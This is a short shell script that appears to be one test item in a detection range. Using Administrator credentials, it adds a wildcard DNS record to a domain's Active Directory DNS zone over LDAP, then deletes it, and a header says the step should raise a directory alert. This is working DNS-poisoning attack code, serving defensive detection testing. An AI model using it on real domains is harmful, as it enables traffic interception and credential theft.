# SPDX-License-Identifier: Apache-2.0
# what: the wildcard of the domain added to the directory (LDAP), and deleted
# technique: T1557
# from: ws1
# to: dc1
# account: Administrator
# outcome: success
# must: alert directory
. "$RANGE_HERE/item.sh"
dn="DC=*,DC=$DOMAIN_DNS,CN=MicrosoftDNS,DC=DomainDnsZones,DC=corp,DC=range,DC=test"
printf 'dn: %s\nchangetype: add\nobjectClass: top\nobjectClass: dnsNode\ndnsRecord:: BAABAAXwAAAqAAAAAAACWAAAAADc7zgACk0AHw==\n' "$dn" >"$HOME/ldif"
ldapmodify -x -H ldap://$dc1 -D "Administrator@$DOMAIN_DNS" -w "$ADMIN_PASSWORD" -f "$HOME/ldif" || exit 1
ldapdelete -x -H ldap://$dc1 -D "Administrator@$DOMAIN_DNS" -w "$ADMIN_PASSWORD" "$dn"
